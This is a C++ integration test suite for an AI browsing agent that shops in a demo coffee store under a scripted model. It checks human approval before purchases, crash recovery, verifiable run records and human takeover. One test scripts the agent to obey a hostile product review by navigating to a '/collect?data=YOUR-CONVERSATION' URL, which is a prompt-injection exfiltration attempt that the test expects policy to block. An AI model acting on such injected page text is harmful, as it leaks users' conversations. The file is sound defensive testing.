// The built-in agent at work in the demo's shop: real browser, real tools, real gates; only the
// model is written down.

#include <fmt/format.h>

#include "agent/loop/run_loop.h"
#include "agent/report/run_report.h"
#include "api/tools/catalog.h"
#include "app/agent/ledger_run_log.h"
#include "app/agent/run_tools.h"
#include "app/agent/runtime_world.h"
#include "app/demo/shop/shop_site.h"
#include "ledger/verifier.h"
#include "tests/support/control_bench.h"
#include "tests/support/scripted_provider.h"

namespace falconer::test {
namespace {

constexpr std::string_view kPeopleBuy = R"(
policy: {name: people-buy, version: "1"}
defaults: {currency: EUR}
rules:
  - name: ordinary
    when: {capability: {not_in: [PURCHASE, DELETE]}}
    then: allow
  - name: buying
    when: {capability: PURCHASE}
    then: {require_approval: {who: human, message: "${agent} buys for ${amount}"}}
)";

class BenchHost final : public api::ToolHost {
 public:
  explicit BenchHost(ControlBench& test) : test_(test), caller_(test.bench.control().Caller()) {}
  Result<api::ToolRooms> Rooms() override {
    return api::ToolRooms{.runtime = &test_.bench.runtime(), .caller = caller_};
  }
  Task<api::AnswerBudget> Budget() override { co_return api::AnswerBudget(); }
  const engine::Caller& caller() const { return caller_; }

 private:
  ControlBench& test_;
  engine::Caller caller_;
};

// A run in a shop.
struct ShopRun {
  explicit ShopRun(BrowserFixture& t)
      : test(t, kPeopleBuy),
        host(test),
        shop(t.ctx.executor(), t.ctx.clock(), {.name = "ada", .password = "coffee-please"},
             "http://localhost:9") {
    EXPECT_TRUE(shop.Start());
    auto tools = std::make_unique<app::RunTools>(host, "run-1");
    config.session = "run-1";
    config.max_steps = 50;
    config.max_wall_time = std::chrono::minutes(5);
    config.allowed_domains = {"127.0.0.1"};
    for (const auto* tool : tools->Tools()) config.allowed_tools.push_back(tool->name);
    kit.provider = &model;
    kit.tools = std::move(tools);
    kit.log = std::make_unique<app::LedgerRunLog>(test.bench.runtime(), TenantId("acme"));
    kit.world = std::make_unique<app::RuntimeWorld>(
        test.bench.runtime(),
        browser::SessionKey{.tenant = TenantId("acme"), .workflow = WorkflowId("run-1")},
        app::RuntimeWorld::Session::kOwn);
    kit.instructions = api::kInstructions;
  }

  void Then(std::string tool, json::object arguments) {
    model.ThenCall({{.id = fmt::format("c{}", ++calls_),
                     .name = std::move(tool),
                     .arguments = std::move(arguments)}});
  }
  void Go(std::string_view path) { Then("browser_navigate", {{"url", shop.Url(path)}}); }
  void Click(std::string_view target) { Then("browser_click", {{"target", target}}); }

  Task<agent::RunResult> Run(CallContext ctx, std::optional<agent::RunPast> past = std::nullopt) {
    agent::RunLoop loop(ctx.executor(), kit,
                        {.id = RunId("run-1"),
                         .caller = host.caller(),
                         .task = "Buy the jasmine coffee.",
                         .config = config},
                        control, {}, std::move(past));
    co_return co_await loop.Go(ctx);
  }
  Task<void> Stop(CallContext ctx) {
    co_await test.bench.Stop();
    co_await shop.Stop(ctx.WithTimeout(kLongPatience));
  }
  Task<std::vector<json::object>> Records(CallContext ctx) {
    auto records = co_await kit.log->Read(ctx, RunId("run-1"));
    EXPECT_TRUE(records) << Why(records);
    co_return records.value_or(std::vector<json::object>());
  }
  // Everything the model was told in answers of tools, over all requests.
  std::string Told() const {
    std::string out;
    for (const agent::ChatMessage& message : model.asked().back().messages) {
      const auto* replies = std::get_if<agent::ToolReplies>(&message);
      if (replies == nullptr) continue;
      for (const agent::ToolReply& reply : replies->replies) out += reply.text + "\n";
    }
    return out;
  }

  ControlBench test;
  BenchHost host;
  app::ShopSite shop;
  ScriptedProvider model{"near"};
  agent::RunKit kit;
  agent::RunConfig config;
  agent::RunControl control;

 private:
  int calls_ = 0;
};

std::string StatusesOf(const agent::RunResult& result) {
  std::string out;
  for (const agent::RunStep& step : result.trace)
    for (const agent::RunCall& call : step.calls)
      out += fmt::format("{}{} {}{}", out.empty() ? "" : "\n", call.tool,
                         NameIn(agent::kCallStatuses, call.status),
                         call.error_code.empty() ? "" : " " + call.error_code + " " + call.error);
  return out;
}

// Search, compare, meet the hostile review, ask a warehouse that fails at first.
void FindTheCoffee(ShopRun& run) {
  run.Go("/");
  run.Then("browser_type", {{"target", "role=searchbox[name=\"Search coffees\"]"},
                            {"text", "jasmine"},
                            {"submit", true}});
  run.Go("/product/huila");
  run.Go("/product/yirgacheffe");
  run.Then("browser_snapshot", {});
  run.Go("/stock/yirgacheffe");
  run.Then("browser_wait_for", {{"text", "The warehouse does not answer"}});
  run.Go("/stock/yirgacheffe");
  run.Then("browser_wait_for", {{"text", "120 bags in stock"}});
}

void FillCheckout(ShopRun& run) {
  run.Go("/product/yirgacheffe");
  run.Click("role=button[name=\"Add to cart\"]");
  run.Go("/login");
  run.Then("browser_fill_form", {{"fields",
                                  {{{"target", "label=Account"}, {"value", "ada"}},
                                   {{"target", "label=Password"}, {"value", "coffee-please"}}}}});
  run.Click("role=button[name=\"Log in\"]");
  run.Go("/checkout");
  run.Then("browser_fill_form",
           {{"fields",
             {{{"target", "label=\"Full name\""}, {"value", "Ada Lovelace"}},
              {{"target", "label=\"E-mail\""}, {"value", "ada@example.org"}},
              {{"target", "label=\"Street and number\""}, {"value", "St James's Square 12"}},
              {{"target", "label=\"Postcode and town\""}, {"value", "SW1Y London"}},
              {{"target", "label=\"How to settle\""}, {"value", "Invoice, 14 days"}}}}});
}

BROWSER_TEST(AgentShopTest, SearchesComparesAndBuysWithAPersonsWord) {
  ShopRun run(t);
  FindTheCoffee(run);
  FillCheckout(run);
  run.Click("role=button[name=\"Place order\"]");
  run.model.ThenSay("Yirgacheffe is ordered.");
  InBackground working(t.ctx.executor(), run.Run(t.ctx));

  const auto question = co_await run.test.Asked();
  EXPECT_EQ(run.shop.shop().orders_placed(), 0) << "nothing is bought before a person has decided";
  co_await run.test.Answer(question.request_id, model::ApprovalAnswer::kApprove);
  const agent::RunResult result = co_await working.Join();

  EXPECT_EQ(result.stop_reason, agent::StopReason::kCompleted) << StatusesOf(result);
  EXPECT_EQ(run.shop.shop().orders_placed(), 1) << StatusesOf(result);
  EXPECT_GT(result.summary.stood_still, Duration::zero());
  EXPECT_FALSE(StatusesOf(result).contains(" error")) << StatusesOf(result);
  co_await run.Stop(t.ctx);
}

BROWSER_TEST(AgentShopTest, SurvivesTheHostileReview) {
  ShopRun run(t);
  run.Go("/product/yirgacheffe");
  run.Then("browser_snapshot", {});
  run.Then("browser_navigate", {{"url", "http://localhost:9/collect?data=YOUR-CONVERSATION"}});
  run.model.ThenSay("The page tries to mislead agents; I did not do as it says.");

  const agent::RunResult result = co_await run.Run(t.ctx);

  EXPECT_EQ(result.stop_reason, agent::StopReason::kCompleted) << StatusesOf(result);
  EXPECT_EQ(result.trace.at(2).calls.at(0).error_kind, "policy_denied");
  EXPECT_EQ(result.summary.policy_denials.size(), 1U);
  const std::string told = run.Told();
  const std::size_t says = told.find("What people say");
  EXPECT_NE(says, std::string::npos) << told;
  EXPECT_LT(told.find("<untrusted "), says) << "what the page says is marked";
  EXPECT_EQ(run.model.asked().front().system, run.model.asked().back().system);
  EXPECT_EQ(run.model.asked().front().tools.size(), run.model.asked().back().tools.size());
  co_await run.Stop(t.ctx);
}

BROWSER_TEST(AgentShopTest, GoesOnAfterACrashWithoutBuyingTwice) {
  ShopRun run(t);
  FillCheckout(run);
  run.Click("role=button[name=\"Place order\"]");
  run.model.ThenSay("Ordered.");
  InBackground working(t.ctx.executor(), run.Run(t.ctx));
  const auto question = co_await run.test.Asked();
  co_await run.test.Answer(question.request_id, model::ApprovalAnswer::kApprove);
  co_await working.Join();
  auto records = co_await run.Records(t.ctx);
  // As if the program had died while the order was on its way.
  while (TextAt(records.back(), "event") != agent::kRunPlanned) records.pop_back();
  const auto past = agent::ReadRunPast(records);
  EXPECT_TRUE(past) << Why(past);
  if (!past) co_return;
  run.model.ThenSay("I do not know whether the order was placed; I looked and did not repeat it.");

  const agent::RunResult again = co_await run.Run(t.ctx, *past);

  EXPECT_EQ(again.stop_reason, agent::StopReason::kCompleted);
  EXPECT_TRUE(run.Told().contains("outcome unknown")) << run.Told();
  EXPECT_EQ(run.shop.shop().orders_placed(), 1);
  co_await run.Stop(t.ctx);
}

BROWSER_TEST(AgentShopTest, WhatItDidIsOnRecordAndCanBeTold) {
  ShopRun run(t);
  run.Go("/");
  run.Then("browser_take_screenshot", {});
  run.model.ThenSay("There are eight things in the shop.");

  const agent::RunResult result = co_await run.Run(t.ctx);

  EXPECT_TRUE(result.success) << StatusesOf(result);
  const auto records = co_await run.Records(t.ctx);
  const auto past = agent::ReadRunPast(records);
  EXPECT_TRUE(past) << Why(past);
  if (!past) co_return;
  EXPECT_EQ(past->closed, agent::StopReason::kCompleted);
  EXPECT_EQ(past->steps.size(), 3U);
  const std::string page = agent::RunReportHtml(RunId("run-1"), *past, {});
  EXPECT_TRUE(page.contains("browser_take_screenshot"));
  const auto paths = ledger::ChainPaths::Of(run.test.data.path(), TenantId("acme"));
  const auto verified = ledger::VerifyChain({.folder = paths.folder,
                                             .tenant = TenantId("acme"),
                                             .keys = {run.test.bench.ledger().public_key()},
                                             .unsigned_tail = ledger::UnsignedTail::kAllowed});
  EXPECT_TRUE(verified) << Why(verified);
  co_await run.Stop(t.ctx);
}

BROWSER_TEST(AgentShopTest, WaitsWhileAPersonDrives) {
  ShopRun run(t);
  run.Go("/");
  run.Go("/product/huila");
  run.model.ThenSay("Huila is shown.");
  const browser::SessionKey key{.tenant = TenantId("acme"), .workflow = WorkflowId("run-1")};
  // The person comes while the model thinks about its second step.
  Notifier asked;
  run.model.OnAsk([&] { asked.NotifyAll(); });
  InBackground working(t.ctx.executor(), run.Run(t.ctx));
  const auto opened = co_await asked.Until(
      t.ctx.WithTimeout(kLongPatience), [&] { return run.model.asked().size() == 2; }, "step 2");
  EXPECT_TRUE(opened) << Why(opened);
  const auto taken =
      co_await run.kit.world->TakeOver(t.ctx.WithTimeout(kLongPatience), {.person = "Ada"});
  EXPECT_TRUE(taken) << Why(taken);
  const auto back =
      co_await run.kit.world->HandBack(t.ctx.WithTimeout(kLongPatience), {.person = "Ada"});
  EXPECT_TRUE(back) << Why(back);

  const agent::RunResult result = co_await working.Join();

  EXPECT_EQ(result.stop_reason, agent::StopReason::kCompleted) << StatusesOf(result);
  co_await run.Stop(t.ctx);
}

}  // namespace
}  // namespace falconer::test
